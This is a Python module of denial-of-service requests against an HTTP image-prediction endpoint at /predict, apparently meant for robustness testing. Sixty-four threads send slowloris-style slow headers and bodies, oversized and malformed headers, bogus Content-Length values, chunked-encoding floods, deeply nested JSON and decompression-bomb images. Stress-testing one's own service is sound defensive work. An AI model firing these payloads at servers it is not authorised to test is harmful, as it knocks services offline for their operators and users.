"""Requests that try to bring a server down: each kind is a function of the server's address.

They end by themselves: a connection is given up after some seconds.
"""

import contextlib
import functools
import io
import itertools
import random
import socket
import threading
import time
import zlib
from collections.abc import Callable, Iterator, Sequence

from PIL import Image

Address = tuple[str, int]

# In seconds: how long a connection waits, and how long a slow one takes.
_PATIENCE = 15.0
_SLOW = 3.0
_PAUSE = 0.25
_SIDE = 10_000
_THREADS = 64
_MAKING = threading.Lock()


def attack(address: Address, number: int, seed: int = 0) -> dict[str, int]:
    """Sends hostile requests, of all kinds in turn, from many threads.

    Returns:
        How many had each first line of a response; "" for no response.
    """
    kinds = itertools.islice(itertools.cycle(KINDS), number)
    order = random.Random(seed).sample(list(kinds), number)
    left, answers, lock = iter(order), dict[str, int](), threading.Lock()

    def run() -> None:
        while True:
            with lock:
                kind = next(left, None)
            if kind is None:
                return
            status = ""
            with (
                contextlib.suppress(OSError),
                socket.create_connection(address, timeout=_PATIENCE) as connection,
            ):
                status = kind(connection)
            with lock:
                answers[status] = answers.get(status, 0) + 1

    threads = [threading.Thread(target=run) for _ in range(_THREADS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return answers


def form(image: bytes) -> tuple[bytes, bytes]:
    """The type and the body of a form with an image."""
    head = b'--x\r\nContent-Disposition: form-data; name="image"; filename="a"\r\n\r\n'
    return b"multipart/form-data; boundary=x", head + image + b"\r\n--x--\r\n"


def post(kind: bytes, body: bytes, headers: bytes = b"", length: int | None = None) -> bytes:
    """A request to /predict."""
    number = len(body) if length is None else length
    return (
        b"POST /predict HTTP/1.1\r\nHost: a\r\nContent-Type: %s\r\nContent-Length: %d\r\n%s\r\n"
        % (kind, number, headers)
    ) + body


def _answer(connection: socket.socket) -> str:
    received = connection.recv(2**16)
    return received.split(b"\r\n")[0].decode("latin-1")


def _send(request: bytes) -> Callable[[socket.socket], str]:
    def send(connection: socket.socket) -> str:
        # The server may answer, and close, before it has everything.
        with contextlib.suppress(OSError):
            connection.sendall(request)
        return _answer(connection)

    return send


def _slowly(pieces: Callable[[], Iterator[bytes]]) -> Callable[[socket.socket], str]:
    def send(connection: socket.socket) -> str:
        end = time.monotonic() + _SLOW
        for piece in pieces():
            connection.sendall(piece)
            if time.monotonic() > end:
                break
            time.sleep(_PAUSE)
        return ""

    return send


def _of_image(make: Callable[[], bytes]) -> Callable[[socket.socket], str]:
    # Each is made when it is first sent, one at a time: some take seconds and 100 MB.
    made = functools.cache(lambda: post(*form(make())))

    def send(connection: socket.socket) -> str:
        with _MAKING:
            request = made()
        return _send(request)(connection)

    return send


def _say_nothing(_connection: socket.socket) -> str:
    time.sleep(_SLOW)
    return ""


def _leave(connection: socket.socket) -> str:
    connection.sendall(post(*form(_photograph())))
    return ""


def _slow_head() -> Iterator[bytes]:
    yield b"POST /predict HTTP/1.1\r\n"
    while True:
        yield b"X-Slow: x\r\n"


def _slow_body() -> Iterator[bytes]:
    yield post(b"application/json", b'{"images": [', length=10**6)
    while True:
        yield b'"x",'


def _tiny_chunks() -> bytes:
    head = b"POST /predict HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
    return head + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\n \r\n" * 200_000 + b"0\r\n\r\n"


def _chunks() -> bytes:
    head = b"POST /predict HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
    chunk = b"10000\r\n" + b" " * 2**16 + b"\r\n"
    return head + b"Transfer-Encoding: chunked\r\n\r\n" + chunk * 700 + b"0\r\n\r\n"


@functools.cache
def _photograph() -> bytes:
    return _encoded("JPEG", 64)


def _encoded(kind: str, side: int) -> bytes:
    file = io.BytesIO()
    Image.new("L", (side, side)).save(file, kind)
    return file.getvalue()


def _empty_png(side: int) -> bytes:
    """A PNG file that has only its size."""

    def chunk(name: bytes, content: bytes) -> bytes:
        check = zlib.crc32(name + content).to_bytes(4, "big")
        return len(content).to_bytes(4, "big") + name + content + check

    size = side.to_bytes(4, "big")
    head = chunk(b"IHDR", size * 2 + bytes((8, 2, 0, 0, 0)))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IEND", b"")


_JSON = b"application/json"
KINDS: Sequence[Callable[[socket.socket], str]] = (
    _send(b"GET / HTTP/1.1\r\nX: " + b"x" * 2**20 + b"\r\n\r\n"),
    _send(b"GET / HTTP/1.1\r\n" + b"X: x\r\n" * 50_000 + b"\r\n"),
    _send(bytes(range(256)) * 16),
    _send(b"POST /predict HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n"),
    _send(b"POST /predict HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999999999999999\r\n\r\n"),
    _send(post(_JSON, b"x", b"Transfer-Encoding: chunked\r\n")),
    _send(_chunks()),
    _send(_tiny_chunks()),
    _send(post(b"text/plain", b"x" * 2**20)),
    _send(post(_JSON, b"[" * 2**20)),
    _send(post(_JSON, b'{"images": [' + b"0," * 2**22 + b"0]}")),
    _send(post(_JSON, b'{"images": ["' + b"A" * 2**22 + b'"]}')),
    _send(post(b"multipart/form-data; boundary=x", b"--x\r\n" + b"a: b\r\n" * 2**18)),
    _send(post(b"multipart/form-data; boundary=x", b"\r\n--" * 2**20)),
    _send(post(*form(b"")) * 200),
    _of_image(lambda: _empty_png(30_000)),
    _of_image(lambda: _encoded("PNG", _SIDE)),
    _of_image(lambda: _encoded("JPEG", _SIDE)),
    _of_image(lambda: _encoded("GIF", _SIDE)),
    _of_image(lambda: _encoded("PNG", 7000)),
    _of_image(lambda: b"GIF89a" + b"\xff" * 2**16),
    _slowly(_slow_head),
    _slowly(_slow_body),
    _say_nothing,
    _leave,
)
